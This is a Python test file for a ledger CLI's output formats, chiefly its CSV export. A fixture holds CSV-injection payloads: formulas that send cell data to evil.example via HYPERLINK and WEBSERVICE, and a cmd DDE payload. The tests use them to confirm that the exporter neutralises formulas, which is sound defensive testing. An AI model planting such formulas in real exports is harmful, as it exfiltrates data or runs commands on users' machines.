"""--format table|json|jsonl|csv on every command that prints records."""

from __future__ import annotations

import csv
import io
import json

import pytest

from projections.formats import HISTORY_COLUMNS, STATUS_COLUMNS, cell
from tests.clitools import key_pair, one_line_error, run, run_json


@pytest.fixture
def ledger_2017(runner, sqlite_path, example):
    assert run(runner, sqlite_path, "import", str(example)).exit_code == 0
    return sqlite_path


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


#: Each command that prints records, as arguments after --db.
COMMANDS = [
    ("status",), ("status", "telegram"), ("history",), ("history", "telegram"),
    ("operator", "list"), ("checkpoint", "--list"), ("projections", "status"), ("types",),
    ("verify",),
]


class TestEveryCommand:
    @pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
    def test_json_jsonl_and_csv(self, runner, ledger_2017, command, tmp_path):
        """json parses as one document, jsonl as one object a line, csv with its header;
        --json is --format json."""
        if command[0] == "checkpoint":
            assert run(runner, ledger_2017, "checkpoint").exit_code == 0
        if command[0] == "operator":
            _, public = key_pair(tmp_path, "alice")
            added = run(runner, ledger_2017, "operator", "add", "alice", "--public-key", public)
            assert added.exit_code == 0, added.output
        as_json = run(runner, ledger_2017, *command, "--format", "json")
        assert as_json.exit_code == 0, as_json.output
        document = json.loads(as_json.stdout)
        assert json.loads(run(runner, ledger_2017, *command, "--json").stdout) == document
        lines = run(runner, ledger_2017, *command, "--format", "jsonl").stdout.splitlines()
        assert lines and all(isinstance(json.loads(line), dict) for line in lines)
        table = csv_rows(run(runner, ledger_2017, *command, "--format", "csv").stdout)
        assert table and all(len(row) == len(table[0]) for row in table)
        assert run(runner, ledger_2017, *command, "--format", "table").exit_code == 0

    @pytest.mark.parametrize("command", [("status",), ("history",), ("history", "telegram")],
                             ids=" ".join)
    def test_jsonl_lines_are_the_json_records(self, runner, ledger_2017, command):
        """jsonl holds the same records as json, one a line."""
        document = run_json(runner, ledger_2017, *command)
        records = document["events"] if isinstance(document, dict) else document
        lines = run(runner, ledger_2017, *command, "--format", "jsonl").stdout.splitlines()
        assert [json.loads(line) for line in lines] == records

    def test_json_and_another_format_disagree(self, runner, ledger_2017):
        """--json --format csv: one line, exit 2."""
        one_line_error(run(runner, ledger_2017, "history", "--json", "--format", "csv"), 2)

    def test_export_formats(self, runner, ledger_2017):
        """export: jsonl (the interchange format) by default, json a list, csv the rows."""
        lines = run(runner, ledger_2017, "export").stdout.splitlines()
        listed = json.loads(run(runner, ledger_2017, "export", "--format", "json").stdout)
        assert [json.loads(line) for line in lines] == listed
        rows = csv_rows(run(runner, ledger_2017, "export", "--format", "csv").stdout)
        assert sorted(r["id"] for r in rows) == sorted(o["id"] for o in listed)


class TestCsv:
    def test_history_round_trips_with_corrected_values(self, runner, ledger_2017):
        """history --format csv through csv's reader: the documented columns, one row per
        event, the corrected time (the original under original), lists joined with ;."""
        events = run_json(runner, ledger_2017, "history", "telegram")["events"]
        text = run(runner, ledger_2017, "history", "telegram", "--format", "csv").stdout
        rows = csv_rows(text)
        assert list(rows[0]) == [name for name, _ in HISTORY_COLUMNS]
        assert [r["id"] for r in rows] == [e["id"] for e in events]
        for row, event in zip(rows, events, strict=True):
            assert row["summary"] == event["summary"]
            assert json.loads(row["data"]) == event["data"]
            assert row["disputed_by"] == ";".join(event["disputed_by"])
        blocked = next(r for r in rows if r["type"] == "blocked")
        assert blocked["occurred_at"] == "2017-07-14T11:00:00+07:00"
        assert json.loads(blocked["original"]) == {"occurred_at": "2017-07-14"}
        assert ";" in blocked["sources"]

    def test_status_columns(self, runner, ledger_2017):
        """status --format csv: one row per platform, targets joined with ;."""
        rows = csv_rows(run(runner, ledger_2017, "status", "--format", "csv").stdout)
        assert list(rows[0]) == [name for name, _ in STATUS_COLUMNS]
        assert rows[0]["platform"] == "telegram" and rows[0]["state"] == "accessible"
        assert rows[0]["divergent"].split(";")[0] == "t.me"
        assert len(rows[0]["registered_targets"].split(";")) == 13
        assert rows[0]["disputed"] == "true"

    def test_hostile_cells_survive(self):
        """Quotes, commas, newlines and ; in values come back as they were."""
        value = 'a "quoted", multi\nline; value'
        buffer = io.StringIO()
        csv.writer(buffer).writerow([cell(value), cell(["x", "y"]), cell(None), cell(True)])
        assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [value, "x;y", "", "true"]


#: Texts a spreadsheet would run (OWASP's list: = + - @, a tab or a carriage return first).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "+1+1"]


@pytest.fixture
def hostile(runner, sqlite_path):
    """A platform named by a formula, blocked by an authority that is one, with a note and
    a source title that are."""
    name, title, authority, note = FORMULAS
    for args in (
            ("platform-registered", "evil", "--at", "2020-01-01", "--source", title,
             "--name", name, "--target", "evil.example"),
            ("blocked", "o-1", "--at", "2020-02-01", "--source", "https://example.org",
             "--platform", "evil", "--authority", authority, "--target", "evil.example",
             "--reason", "-r", "--note", note),
            ("access-observed", "o-1", "--at", "2020-03-01", "--source", "https://example.org",
             "--target", "evil.example", "--accessible", "--network", "\t=1+1")):
        result = run(runner, sqlite_path, "record", *args)
        assert result.exit_code == 0, result.output
    return sqlite_path


class TestSpreadsheetSafe:
    """Every --format csv goes through one guarded writer: a cell that would start a
    formula gets a leading apostrophe; JSON keeps the values as they are."""

    @pytest.mark.parametrize("command", [("history",), ("history", "evil"), ("export",),
                                         ("status",), ("status", "evil")], ids=" ".join)
    def test_no_cell_starts_a_formula(self, runner, hostile, command):
        fmt = ("--format", "csv")
        text = run(runner, hostile, *command, *fmt).stdout
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [c for row in rows for c in row]
        assert len(rows) > 1
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
        found = "\n".join(cells)
        assert sum(f"'{formula}" in found for formula in FORMULAS) >= 2

    def test_the_values_come_back_after_the_apostrophe(self, runner, hostile):
        """history and status, read back with Python's csv: each hostile text is there
        whole, after one apostrophe; the JSON has it bare."""
        name, title, authority, note = FORMULAS
        rows = list(csv.DictReader(io.StringIO(
            run(runner, hostile, "history", "--format", "csv").stdout, newline="")))
        by_type = {row["type"]: row for row in rows}
        assert by_type["platform-registered"]["sources"] == "'" + title
        assert by_type["blocked"]["note"] == "'" + note
        assert by_type["blocked"]["summary"] == "'" + authority + " orders 1 target of evil " \
            "blocked (-r)"
        assert by_type["access-observed"]["summary"].startswith("evil.example observed")
        [status] = list(csv.DictReader(io.StringIO(
            run(runner, hostile, "status", "--format", "csv").stdout, newline="")))
        assert status["name"] == "'" + name and status["authorities"] == "'" + authority
        events = run_json(runner, hostile, "history")["events"]
        assert {e["type"]: e for e in events}["blocked"]["note"] == note
        assert run_json(runner, hostile, "status")[0]["name"] == name

    @pytest.mark.parametrize("command", [("history",), ("history", "evil"), ("export",),
                                         ("status",), ("status", "evil")], ids=" ".join)
    def test_no_cell_starts_a_formula_where_semicolons_separate(self, runner, hostile,
                                                                  command):
        """A spreadsheet whose list separator is ``;`` (the locales of Indonesia, Turkey,
        Brazil) splits an unquoted cell there: a platform named ``Evil;=2+2;`` and an
        authority ``Kominfo;=WEBSERVICE(...)`` must start no formula after the split
        either (found by a review)."""
        for args in (("platform-registered", "semi", "--at", "2020-01-01", "--source",
                      "https://example.org", "--name", "Evil;=2+2;", "--target", "semi.example"),
                     ("blocked", "o-2", "--at", "2020-02-01", "--source", "https://example.org",
                      "--platform", "semi", "--authority",
                      'Kominfo;=WEBSERVICE("http://evil.example/"&A2);', "--target",
                      "semi.example", "--reason", "x;-y")):
            assert run(runner, hostile, "record", *args).exit_code == 0
        text = run(runner, hostile, *command, "--format", "csv").stdout
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            rows.append(row)
        cells = [c.strip('"') for row in rows for c in row]
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells

    def test_numbers_and_dates_are_left_as_they_are(self):
        """Negative and signed numbers stay numbers; ISO times start with a digit; an
        apostrophe already there gains nothing (guarding twice changes nothing)."""
        from projections.formats import spreadsheet_safe

        for value in ("-5", "+3.25", "-1e3", "-.5", "2017-07-14", "2017-07-14T11:00:00+07:00",
                      "'=1+1", "", "plain", 5, None, True):
            assert spreadsheet_safe(value) == value
        for value in ("-", "- a dash", "-5 targets", "=1", "@x", "\t1", "\r1", "+x"):
            assert spreadsheet_safe(value) == "'" + value
            assert spreadsheet_safe(spreadsheet_safe(value)) == "'" + value
        for value, safe in (("a;=1", "a;'=1"), ("Evil;=2+2;", "Evil;'=2+2;"),
                            ("x;-5;y", "x;-5;y"), (";@x", ";'@x"), ("=a;=b", "'=a;'=b")):
            assert spreadsheet_safe(value) == safe
            assert spreadsheet_safe(safe) == safe


class TestShortAndEmpty:
    def test_export_takes_json_as_its_short_form(self, runner, ledger_2017):
        """``--json`` is short for ``--format json`` on export too (it was refused)."""
        long = run(runner, ledger_2017, "export", "--format", "json")
        short = run(runner, ledger_2017, "export", "--json")
        assert short.exit_code == 0 and short.stdout == long.stdout
        assert len(json.loads(short.stdout)) == 33
        one_line_error(run(runner, ledger_2017, "export", "--json", "--format", "csv"), 2)

    @pytest.mark.parametrize("args, header", [
        (("operator", "list"), "name,role,key_id,public_key,added_at,revoked_at,"
                               "revoked_reason,added_occurred_at,added_recorded_at,"
                               "revoked_occurred_at,revoked_recorded_at"),
        (("checkpoint", "--list"), "origin,size,root_hash,note"),
    ])
    def test_a_csv_with_no_rows_has_its_header(self, runner, ledger_2017, args, header):
        """No operators, no checkpoints: the header alone, as status's CSV gives (it was
        an empty line), so a script reading the columns finds them."""
        result = run(runner, ledger_2017, *args, "--format", "csv")
        assert result.exit_code == 0
        assert result.stdout.splitlines() == [header]
